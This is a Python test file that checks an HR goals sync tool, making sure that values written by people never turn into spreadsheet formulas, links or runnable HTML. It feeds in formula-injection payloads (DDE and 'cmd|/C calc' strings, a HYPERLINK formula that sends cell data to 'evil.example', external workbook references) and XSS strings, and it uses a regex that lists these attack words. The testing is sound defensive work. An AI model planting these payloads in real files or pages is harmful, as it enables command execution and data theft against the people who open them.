"""What people wrote never becomes a formula or a link in anything that we write."""

import csv
import io
import re
import zipfile
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path

import pytest
from xlsxwriter import Workbook

from sync.cli import cli

HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"open")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=[evil.xlsx]Sheet1!A1",
    "javascript:alert(document.domain)",
    "http://evil.example/x",
    "mailto:evil@evil.example",
    "external:evil.xlsx",
    "internal:'Goals'!A1",
    '<a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "\u2028=1+1",
    "\u202e=1+1",
    "＝1+1",
    "{=1+1}",
    "'=1+1",
)
HEADS = ("ID", "Employee", "Email", "Manager", "Goal", "Target", "Actual", "Start", "Due", "Status")  # fmt: skip
SETTINGS = '[mail]\nhr = ["hr@example.com"]\n'

PEOPLE_S = re.compile(
    "evil|cmd|DDE|HYPERLINK|javascript|1\\+1|http|External", re.IGNORECASE
)
"""Words that none of our own formulas hold."""


@pytest.fixture
def office(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "config.toml").write_text(SETTINGS, "utf-8")
    with Workbook("goals.xlsx", {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("=Goals")
        for row, values in enumerate(_rows()):
            for column, value in enumerate(values):
                sheet.write_string(row, column, value)
    with Path("goals.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(_rows())
    return tmp_path


def _rows() -> list[tuple[str, ...]]:
    rows: list[tuple[str, ...]] = [HEADS]
    for number, text in enumerate(HOSTILE):
        day = ("2026-01-01", "2026-06-30")
        name = f"{text} {number % 3}"
        whose = (f"{text}{number}", name, f"p{number % 3}@example.com", "=Boss")
        rows.append((*whose, f"{text} store", "100", "20", *day, text))
    return rows


def run(*words: str) -> None:
    code = cli.main(list(words), standalone_mode=False)

    assert code in (0, None)


def _formulas(data: bytes) -> list[str]:
    """List every formula, link and outside reference of a workbook.

    A rule of conditional formatting is ours alone, and so are the ranges of charts.
    """
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/sheet"):
                cells = re.sub(
                    r"<conditionalFormatting.*?</conditionalFormatting>", "", text
                )
                found += re.findall(r"<f[ >].*?</f>", cells)
                found += re.findall(r"<hyperlink [^>]*r:id[^>]*>", cells)
            if name.endswith(".rels"):
                found += re.findall(r'<[^>]*TargetMode="External"[^>]*>', text)
            if "externalLink" in name or "ddeLink" in text:
                found.append(name)
    return found


@pytest.mark.parametrize("book", ["goals.xlsx", "goals.csv"])
def test_no_cell_that_a_sync_writes_is_a_formula(office: Path, book: str) -> None:
    run("--quiet", "sync", book, "--yes")
    written = [
        p for p in office.glob("*.xlsx") if book == p.name or p.name != "goals.xlsx"
    ]

    assert written
    assert {path.name: _formulas(path.read_bytes()) for path in written} == {
        path.name: [] for path in written
    }
    assert len(zipfile.ZipFile(written[0]).namelist()) > 5


def test_formulas_of_the_summary_workbook_hold_no_word_of_people(office: Path) -> None:
    run("--quiet", "report", "goals.xlsx", "--xlsx", "--out", "report.xlsx")
    formulas = _formulas((office / "report.xlsx").read_bytes())

    assert formulas
    assert [one for one in formulas if PEOPLE_S.search(one)] == []


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.tags = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags += 1
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on"):
                self.wrong.append(f"{tag} {name}")
            if name in {"href", "src", "action"} and not (
                address == "" or address.startswith(("#", "data:", "cid:"))
            ):
                self.wrong.append(f"{tag} {name}={value}")


def _wrong(html: str) -> list[str]:
    page = _Page()
    page.feed(html)

    assert page.tags > 10
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", html, re.DOTALL)
    return page.wrong + [one for one in scripts if one.strip().startswith("alert(")]


def test_page_shows_hostile_words_and_runs_none(office: Path) -> None:
    run("--quiet", "report", "goals.xlsx", "--out", "page.html")
    html = (office / "page.html").read_text("utf-8")

    assert "evil.example" in html
    assert _wrong(html) == []


def test_letters_show_hostile_words_and_link_to_none(office: Path) -> None:
    run("--quiet", "sync", "goals.xlsx", "--yes")
    letters = [
        message_from_bytes(path.read_bytes(), policy=default)
        for path in (office / "outbox").glob("*.eml")
    ]

    assert letters
    for letter in letters:
        html = letter.get_body(("html",))
        assert html is not None
        assert _wrong(str(html.get_content())) == []
        for part in letter.iter_attachments():
            if str(part.get_filename()).endswith(".xlsx"):
                formulas = _formulas(bytes(part.get_content()))
                assert [one for one in formulas if PEOPLE_S.search(one)] == []


def test_table_of_figures_begins_no_cell_like_a_formula(
    office: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run("--quiet", "report", "goals.xlsx", "--csv")
    said = capsys.readouterr().out
    values = [value for row in csv.reader(io.StringIO(said)) for value in row]
    risky = [value for value in values if value[:1] in set("=+-@\t\r")]

    assert len(values) > 10, office
    assert [value for value in risky if not re.fullmatch(r"-?[0-9.]+%?", value)] == []
